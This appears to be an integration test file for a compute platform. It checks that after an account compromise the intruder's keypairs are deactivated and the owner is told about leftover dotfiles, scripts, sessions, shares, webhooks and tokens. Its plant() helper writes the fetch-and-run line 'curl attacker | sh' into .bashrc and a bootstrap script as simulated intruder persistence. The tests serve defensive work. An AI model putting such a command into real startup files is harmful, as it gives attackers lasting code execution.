import { Secret, TOTP } from 'otpauth'
import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest'
import { type AgentImage } from '#agent/contract'
import { type ApiClient, readNames, sessionImagePrefix } from '#manager/contract'
import { apiOf, signedApi } from '../../fixtures/manager.ts'
import { PYTHON, ScriptedAgent } from '../../fixtures/scripted-agent.ts'
import { type SessionsCluster, startSessionsCluster } from '../../fixtures/sessions-cluster.ts'
import { codeOf, tokenOf } from './account-steps.ts'

/** Remains of somebody who had access to an account, once only its person knows the password again (ADR 59, 67). */

const KNOWN = 'Known-to-the-lead-1'
const STILL_KNOWN = 'Known-to-the-lead-2'
const OWN = 'Chosen-by-person-3'
const IMAGE = 'berth/python:3.13'

let world: AsyncDisposableStack
let cluster: SessionsCluster
let lead: ApiClient
let agent: ScriptedAgent
let number = 0
let email: string
beforeAll(async () => {
  await using opening = new AsyncDisposableStack()
  cluster = opening.use(await startSessionsCluster())
  const { join } = await cluster.manager.createJoinToken()
  agent = opening.use(await new ScriptedAgent({ url: cluster.url, join }).connect())
  await vi.waitFor(async () => expect((await cluster.api.listImages()).items).not.toEqual([]), { timeout: 120_000 })
  await cluster.api.updateAgent({ params: { id: agent.id }, body: { schedulable: false } })
  const body = { email: 'lead@example.org', name: 'Lead', password: OWN, mustChangePassword: false }
  await cluster.api.createUser({ body: { ...body, role: 'domain_admin' } })
  lead = await signIn(body.email, OWN)
  world = opening.move()
})
afterAll(() => world.disposeAsync())
beforeEach(() => {
  email = `doubt-${++number}@example.org`
})

async function signIn(address: string, password: string, more: { newPassword?: string; totp?: string } = {}) {
  const { token } = await apiOf(cluster.url).login({ body: { email: address, password, kind: 'token', ...more } })
  return apiOf(cluster.url, token ?? '')
}
/** A superadmin helps the person with a link, which ends the doubt about an admin of the domain. */
async function help(id: string): Promise<void> {
  const { url } = await cluster.api.createAccountLink({ params: { id }, body: { purpose: 'reset' } })
  await apiOf(cluster.url).resetPassword({ body: { token: tokenOf(url), password: OWN } })
}
/** The images that the agent has besides the usual one. */
async function show(images: readonly AgentImage[]): Promise<void> {
  agent.images = [PYTHON, ...images]
  agent.report(true)
  const known = async () => (await cluster.api.listImages()).items.map(({ reference }) => reference)
  await expect.poll(known).toEqual(expect.arrayContaining(images.flatMap(({ references }) => references)))
}
/** Asks a superadmin for an image of a running session. */
async function askForImage(inside: ApiClient, reference: string): Promise<void> {
  await cluster.api.updateAgent({ params: { id: agent.id }, body: { schedulable: true } })
  const { items } = await inside.createSession({ body: { image: IMAGE } })
  const params = { id: items[0]?.id ?? '' }
  await expect.poll(async () => (await inside.getSession({ params })).status).toBe('RUNNING')
  await inside.saveSession({ params, body: { reference } })
  await cluster.api.updateAgent({ params: { id: agent.id }, body: { schedulable: false } })
}
/** Everything lasting that an intruder could leave. */
async function plant(inside: ApiClient) {
  const keypair = await inside.createKeypair({ body: {} })
  await inside.putDotfile({ body: { path: '.bashrc', content: 'curl attacker | sh' } })
  await inside.setBootstrapScript({ body: { script: 'curl attacker | sh' } })
  await inside.generateSshKeypair()
  await inside.saveSessionTemplate({ params: { name: 'usual' }, body: { image: IMAGE, startupCommand: 'planted' } })
  const { items } = await inside.createSession({ body: { image: IMAGE, name: 'planted', startupCommand: 'planted' } })
  const ended = await inside.createSession({ body: { image: IMAGE, name: 'bait', startupCommand: 'planted' } })
  await inside.deleteSession({ params: { id: ended.items[0]?.id ?? '' } })
  const folder = await inside.createFolder({ body: { name: 'theirs' } })
  await inside.inviteToFolder({ params: { id: folder.id }, body: { email: 'lead@example.org' } })
  await inside.createFolder({ body: { name: '.local' } })
  return { keypair, session: items[0]?.id }
}
const left = async (api: ApiClient) =>
  (await api.listMessages()).items
    .filter(({ about }) => about?.startsWith('left_'))
    .map(({ about, detail }) => `${about} ${detail}`)
    .toSorted()
const ALL_LEFT = (accessKey: string) =>
  [
    `left_keypairs ${accessKey}`,
    'left_dotfiles .bashrc',
    'left_script ',
    'left_ssh_key ',
    'left_folders .local, theirs',
    // Sessions that wait or run come first. The person would start an ended one again with the command that was left in it.
    'left_sessions planted, bait',
    'left_shares theirs (lead@example.org)',
    'left_templates usual',
  ].toSorted()

test('keypairs that were made meanwhile end with the doubt, and the person learns what stays', async () => {
  const { id } = await lead.createUser({ body: { email, name: 'Ann', password: KNOWN } })
  const inside = await signIn(email, KNOWN, { newPassword: STILL_KNOWN })
  const { keypair, session } = await plant(inside)
  const { secret } = await inside.enrolTotp({ body: { password: STILL_KNOWN } })
  const code = (steps: number) =>
    new TOTP({ secret: Secret.fromBase32(secret) }).generate({ timestamp: Date.now() + steps * 30_000 })
  await inside.confirmTotp({ body: { code: code(0) } })
  expect(await codeOf(signedApi(cluster.url, keypair).me())).toBe('ok')
  await help(id)
  expect(await codeOf(signedApi(cluster.url, keypair).me())).toBe('keypair_inactive')
  const person = await signIn(email, OWN, { totp: code(1) })
  expect(await left(person)).toEqual([...ALL_LEFT(keypair.accessKey), 'left_second_factor '].toSorted())
  const { items } = await person.listMessages()
  expect(items.find(({ about }) => about === 'left_sessions')?.sessions).toMatchObject([
    { id: session },
    { name: 'bait' },
  ])
  // The person decides what to keep and what to remove.
  await person.updateKeypair({ params: { accessKey: keypair.accessKey }, body: { active: true } })
  expect(await codeOf(signedApi(cluster.url, keypair).me())).toBe('ok')
})

test('what the person had before stays as it is, and is not named', async () => {
  const { id } = await lead.createUser({ body: { email, name: 'Ann', password: KNOWN } })
  await help(id)
  const person = await signIn(email, OWN)
  await person.changePassword({ body: { oldPassword: OWN, newPassword: `${OWN}-own` } })
  const [kept, dormant] = [
    await person.createKeypair({ body: {} }),
    await person.createKeypair({ body: { active: false } }),
  ]
  await person.putDotfile({ body: { path: '.vimrc', content: 'mine' } })
  await person.createFolder({ body: { name: 'results' } })
  await person.createFolder({ body: { name: '.config' } })
  const { items: sessions } = await person.createSession({ body: { image: IMAGE, name: 'before' } })
  await person.deleteSession({ params: { id: sessions[0]?.id ?? '' } })
  // Without mail, an admin of the domain sets a password and has access to the account.
  await lead.updateUser({ params: { id }, body: { password: KNOWN } })
  const inside = await signIn(email, KNOWN, { newPassword: STILL_KNOWN })
  await inside.updateKeypair({ params: { accessKey: dormant.accessKey }, body: { active: true } })
  await inside.putDotfile({ body: { path: '.netrc', content: 'planted' } })
  // Somebody who knows the password sets a new one, which is just as doubtful.
  await inside.changePassword({ body: { oldPassword: STILL_KNOWN, newPassword: KNOWN } })
  expect(await codeOf(signedApi(cluster.url, dormant).me())).toBe('ok')
  await help(id)
  expect(await codeOf(signedApi(cluster.url, dormant).me())).toBe('keypair_inactive')
  expect(await codeOf(signedApi(cluster.url, kept).me())).toBe('ok')
  expect(await left(await signIn(email, OWN))).toEqual([
    'left_dotfiles .netrc',
    // The intruder may have written into it, and each new session mounts it.
    'left_folders .config',
    `left_keypairs ${dormant.accessKey}`,
  ])
  // The doubt is over: the next link finds no remains.
  await help(id).catch(() => undefined)
  expect(await left(await signIn(email, OWN))).toHaveLength(3)
})

test('a right that was raised meanwhile is named as what was shared meanwhile is', async () => {
  const { id } = await lead.createUser({ body: { email, name: 'Ann', password: KNOWN } })
  await help(id)
  const person = await signIn(email, OWN)
  await person.changePassword({ body: { oldPassword: OWN, newPassword: `${OWN}-own` } })
  const folder = async (name: string, permission: 'ro' | 'rw') => {
    const { id: folderId } = await person.createFolder({ body: { name } })
    return person
      .inviteToFolder({ params: { id: folderId }, body: { email: 'lead@example.org', permission } })
      .then(invitation => ({ folderId, invitation }))
  }
  const [joined, invited] = [await folder('joined', 'ro'), await folder('invited', 'ro')]
  await folder('untouched', 'rw')
  await lead.acceptFolderInvitation({ params: { id: joined.invitation.id } })
  const group = await cluster.api.createGroup({ body: { name: `raised-${number}` } })
  const ofLead = (await lead.me()).user.id
  for (const member of [id, ofLead]) await cluster.api.addGroupMember({ params: { id: group.id, userId: member } })
  const { items } = await person.createSession({ body: { image: IMAGE, name: 'shown', group: group.name } })
  const share = (api: ApiClient, permission: 'view' | 'use') =>
    api.shareSession({ params: { id: items[0]?.id ?? '' }, body: { email: 'lead@example.org', permission } })
  await share(person, 'view')
  await lead.updateUser({ params: { id }, body: { password: KNOWN } })
  const inside = await signIn(email, KNOWN, { newPassword: STILL_KNOWN })
  const body = { permission: 'delete' } as const
  await inside.updateFolderMember({ params: { id: joined.folderId, userId: ofLead }, body })
  await inside.updateFolderInvitation({
    params: { id: invited.folderId, invitationId: invited.invitation.id },
    body,
  })
  await share(inside, 'use')
  // Administrators of the account still read the log of this session.
  await inside.updateSession({ params: { id: items[0]?.id ?? '' }, body: { adminsMayRead: true } })
  await help(id)
  expect(await left(await signIn(email, OWN))).toContain(
    'left_shares invited (lead@example.org), joined (lead@example.org), shown (lead@example.org), shown (log: administrators)',
  )
})

test('invitations and links that an administrator made meanwhile are named, with who came by them', async () => {
  const body = { email, name: 'Ann', password: KNOWN, mustChangePassword: false, role: 'domain_admin' } as const
  await cluster.api.createUser({ body })
  await cluster.api.updateSettings({ body: { allowSignUp: 'invitation' } })
  const inside = await signIn(email, KNOWN)
  const { token } = await inside.createInvitation({ body: { note: 'a friend' } })
  await inside.createInvitation({ body: {} })
  const withdrawn = await inside.createInvitation({ body: { note: 'withdrawn' } })
  await inside.revokeInvitation({ params: { id: withdrawn.id } })
  const friend = `friend-${number}@example.org`
  await apiOf(cluster.url).signUp({ body: { email: friend, name: 'Friend', password: OWN, invitation: token } })
  const victim = await inside.createUser({
    body: { email: `victim-${number}@example.org`, name: 'V', password: KNOWN },
  })
  await inside.createAccountLink({ params: { id: victim.id }, body: { purpose: 'reset' } })
  await inside.changePassword({ body: { oldPassword: KNOWN, newPassword: OWN } })
  const named = await left(await signIn(email, OWN))
  expect(named).toContain(`left_invitations a friend (${friend}), default`)
  expect(named).toContain(`left_account_links victim-${number}@example.org`)
})

test('webhooks that an administrator saved last are named, whenever they were made', async () => {
  const body = { email, name: 'Ann', password: KNOWN, mustChangePassword: false, role: 'domain_admin' } as const
  await cluster.api.createUser({ body })
  const { id: projectId } = await cluster.api.createGroup({ body: { name: `hooked-${number}` } })
  const hook = (name: string) => {
    const events = ['session.ended' as const]
    return { name, projectId, url: 'https://hooks.example.org/x', events }
  }
  const inside = await signIn(email, KNOWN)
  await inside.createWebhook({ body: hook('to-eve') })
  const taken = await lead.createWebhook({ body: hook('taken-over') })
  await lead.createWebhook({ body: hook('of-lead') })
  await inside.updateWebhook({ params: { id: taken.id }, body: { url: 'https://eve.example.org/x' } })
  await inside.changePassword({ body: { oldPassword: KNOWN, newPassword: OWN } })
  expect(await left(await signIn(email, OWN))).toContain('left_webhooks taken-over, to-eve')
})

test('SCIM tokens that an administrator made meanwhile are named', async () => {
  const body = { email, name: 'Ann', password: KNOWN, mustChangePassword: false, role: 'domain_admin' } as const
  await cluster.api.createUser({ body })
  const inside = await signIn(email, KNOWN)
  await inside.createScimToken({ body: { name: 'of-eve' } })
  await lead.createScimToken({ body: { name: 'of-lead' } })
  await inside.changePassword({ body: { oldPassword: KNOWN, newPassword: OWN } })
  expect(await left(await signIn(email, OWN))).toContain('left_scim_tokens of-eve (default)')
})

test('images of the sessions are named: saved and asked for meanwhile, on hosts and in registries', async () => {
  const { id } = await lead.createUser({ body: { email, name: 'Ann', password: KNOWN } })
  const prefix = sessionImagePrefix({ id, email })
  const image = (digit: number, ...references: string[]) => ({
    ...PYTHON,
    id: `sha256:${String(digit).repeat(64)}`,
    references,
  })
  const before = image(1, `${prefix}mine:1`)
  const others = image(2, 'users/eve-00000000/hers:1', `users/x/${prefix.split('/')[1]}:1`)
  await show([before, others])
  // Ends one doubt, and begins the one about the superadmin who received the link.
  await help(id)
  await lead.updateUser({ params: { id }, body: { password: KNOWN } })
  const inside = await signIn(email, KNOWN, { newPassword: STILL_KNOWN })
  await show([before, others, image(3, `${prefix}planted:1`), image(4, `cr.example.org/lab/${prefix}pushed:1`)])
  await askForImage(inside, `${prefix}asked:1`)
  await help(id)
  expect(await left(await signIn(email, OWN))).toContain(
    `left_images cr.example.org/lab/${prefix}pushed:1, ${prefix}asked:1, ${prefix}planted:1`,
  )
})

test('a list that is cut says how many names it leaves out, in each language', async () => {
  const { id } = await lead.createUser({ body: { email, name: 'Ann', password: KNOWN } })
  const inside = await signIn(email, KNOWN, { newPassword: STILL_KNOWN })
  // The intruder hides the important message behind others.
  for (let at = 0; at < 60; at++) await inside.putDotfile({ body: { path: `.a${at + 10}`, content: 'x' } })
  await inside.putDotfile({ body: { path: '.zshrc', content: 'planted' } })
  await help(id)
  const person = await signIn(email, OWN)
  const told = (await person.listMessages()).items.find(({ about }) => about === 'left_dotfiles')
  const { names, more } = readNames(told?.detail ?? '')
  expect(names.split(', ').length + more).toBe(61)
  expect(more).toBeGreaterThan(0)
  expect(told?.text).toContain(`${names} and ${more} more.`)
})

test.each(['role', 'own choice', 'sign-in'] as const)('the doubt ends the same way by another way: %s', async way => {
  const isLeads = way === 'role'
  const body = { email, name: 'Ann', password: KNOWN, mustChangePassword: isLeads }
  const { id } = await (isLeads ? lead : cluster.api).createUser({ body })
  const inside = await signIn(email, KNOWN, isLeads ? { newPassword: STILL_KNOWN } : {})
  const { keypair } = await plant(inside)
  if (way === 'role') {
    const { passwordLink } = await cluster.api.updateUser({ params: { id }, body: { role: 'domain_admin' } })
    await apiOf(cluster.url).resetPassword({ body: { token: tokenOf(passwordLink?.url ?? null), password: OWN } })
  } else if (way === 'own choice') {
    await inside.changePassword({ body: { oldPassword: KNOWN, newPassword: OWN } })
  } else {
    await cluster.api.updateUser({ params: { id }, body: { mustChangePassword: true } })
    await signIn(email, KNOWN, { newPassword: OWN })
  }
  expect(await codeOf(signedApi(cluster.url, keypair).me())).toBe('keypair_inactive')
  // With a higher role all keypairs end, and the messages are about the role.
  const all = ALL_LEFT(keypair.accessKey).filter(one => !isLeads || !one.startsWith('left_keypairs'))
  expect(await left(await signIn(email, OWN))).toEqual(all)
})

/** Links that a superadmin receives to pass on, if there is no mail. */
const IN_HAND = {
  'of a new account': async () => {
    const { items } = await cluster.api.importUsers({ body: { rows: [{ email }] } })
    return items[0]?.link?.url
  },
  'for a new password': async () => {
    const body = { email, name: 'Ann', password: KNOWN, mustChangePassword: false }
    const { id } = await cluster.api.createUser({ body })
    await (await signIn(email, KNOWN)).changePassword({ body: { oldPassword: KNOWN, newPassword: STILL_KNOWN } })
    return (await cluster.api.createAccountLink({ params: { id }, body: { purpose: 'reset' } })).url
  },
  'of a sign-up': async () => {
    await cluster.api.updateSettings({ body: { allowSignUp: 'request' } })
    await apiOf(cluster.url).requestSignUp({ body: { email, name: 'Ann' } })
    const waiting = async () =>
      (await cluster.api.listSignUpRequests({ query: {} })).items.find(one => one.email === email)
    await expect.poll(waiting).toBeDefined()
    const id = (await waiting())?.id ?? ''
    return (await cluster.api.acceptSignUpRequest({ params: { id }, body: {} })).link?.url
  },
}

test.each(Object.keys(IN_HAND) as (keyof typeof IN_HAND)[])(
  'a superadmin who uses a link %s ahead of its person leaves a doubt, which the next choice of the person ends',
  async kind => {
    const ofLead = await lead.createFolder({ body: { name: `for-${number}` } })
    await lead.inviteToFolder({ params: { id: ofLead.id }, body: { email } })
    const use = (url: string | null | undefined, password: string) =>
      apiOf(cluster.url).resetPassword({ body: { token: tokenOf(url ?? null), password } })
    await use(await IN_HAND[kind](), KNOWN)
    const inside = await signIn(email, KNOWN)
    const { id } = (await inside.me()).user
    const { keypair } = await plant(inside)
    expect((await inside.listFolderInvitations()).items).toEqual([])
    await use((await cluster.api.createAccountLink({ params: { id }, body: { purpose: 'reset' } })).url, OWN)
    const person = await signIn(email, OWN)
    expect((await person.me()).user.passwordFrom).toBe('superadmin')
    const told = (await person.listMessages()).items.filter(({ about }) => about === 'own_link_used')
    expect(told).toHaveLength(2)
    await person.changePassword({ body: { oldPassword: OWN, newPassword: STILL_KNOWN } })
    expect((await person.me()).user.passwordFrom).toBe('person')
    expect(await codeOf(signedApi(cluster.url, keypair).me())).toBe('keypair_inactive')
    expect(await left(person)).toEqual(ALL_LEFT(keypair.accessKey))
    expect((await person.listMessages()).items.map(({ about }) => about)).toContain('own_password_chosen')
    expect((await person.listFolderInvitations()).items).toMatchObject([{ folder: { id: ofLead.id } }])
  },
)

test('an invitation is not shown to an administrator who came into the account after it, whoever was in it before', async () => {
  const { id } = await cluster.api.createUser({
    body: { email, name: 'Ann', password: KNOWN, mustChangePassword: false },
  })
  const inviter = { email: `inviter-${number}@example.org`, name: 'Bob', password: OWN, mustChangePassword: false }
  await cluster.api.createUser({ body: inviter })
  const bob = await signIn(inviter.email, OWN)
  const folder = await bob.createFolder({ body: { name: 'results' } })
  await bob.inviteToFolder({ params: { id: folder.id }, body: { email } })
  const person = await signIn(email, KNOWN)
  const [invitation] = (await person.listFolderInvitations()).items
  expect(invitation).toMatchObject({ folder: { id: folder.id } })
  await lead.updateUser({ params: { id }, body: { password: OWN } })
  const inside = await signIn(email, OWN, { newPassword: STILL_KNOWN })
  expect((await inside.listFolderInvitations()).items).toEqual([])
  const accepted = inside.acceptFolderInvitation({ params: { id: invitation?.id ?? '' } })
  expect(await codeOf(accepted)).toBe('folder_invitation_not_found')
})
